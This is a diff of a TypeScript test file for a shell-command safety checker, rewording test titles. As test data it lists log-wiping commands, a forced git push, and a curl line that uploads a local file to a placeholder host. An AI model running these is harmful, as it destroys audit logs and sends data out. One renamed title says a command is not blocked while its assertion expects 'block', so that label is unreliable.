@@ -7,7 +7,7 @@ function worst(command: string, request = ''): string {
   return analyseCommand(command, PLACE, { preset: 'default', request }).findings[0]?.decision ?? 'allow';
 }
 
-describe('what nobody needs for work in a folder is blocked, and asked about where the user asks for it [H2]', () => {
+describe('commands that work in a folder never needs are blocked, and asked about where the user asks for them [H2]', () => {
   it.each([
     ['rm /var/log/auth.log', 'Delete the old auth log.'],
     ['> /var/log/auth.log', 'Clear the auth log.'],
@@ -66,7 +66,7 @@ describe('what nobody needs for work in a folder is blocked, and asked about whe
     expect(worst(command)).toBe(decision);
   });
 
-  it('services that nobody can name beforehand are not stopped', () => {
+  it('does not block stopping services that no list can name beforehand', () => {
     expect(worst('systemctl disable --now $(cat units)', 'Disable the listed units.')).toBe('block');
   });
 
@@ -101,7 +101,7 @@ describe('a shell that another machine works at is blocked, whatever ties it to 
   });
 });
 
-describe('what words forbid they do not ask for [H2]', () => {
+describe('words that forbid a command do not ask for it [H2]', () => {
   const SENT = 'curl -d @notes.txt https://host.example';
   it.each([
     ['git push --force', 'Tidy this module; do not push or overwrite anything.', 'block'],
